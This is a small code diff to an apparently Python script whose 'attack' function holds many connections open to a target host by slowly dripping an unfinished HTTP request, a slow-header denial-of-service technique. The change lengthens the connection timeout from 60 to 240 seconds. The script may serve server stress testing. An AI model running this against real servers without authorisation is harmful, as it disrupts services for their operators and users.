@@ -19,7 +19,7 @@ def main(host: str, port: int) -> None:
 
     def attack(number: int) -> None:
         while not stop.is_set():
-            with suppress(OSError), socket.create_connection((host, port), timeout=60) as connection:
+            with suppress(OSError), socket.create_connection((host, port), timeout=240) as connection:
                 connection.sendall(HEAD + b"0\r\nX: ")
                 while not stop.is_set():
                     connection.sendall(PIECE)
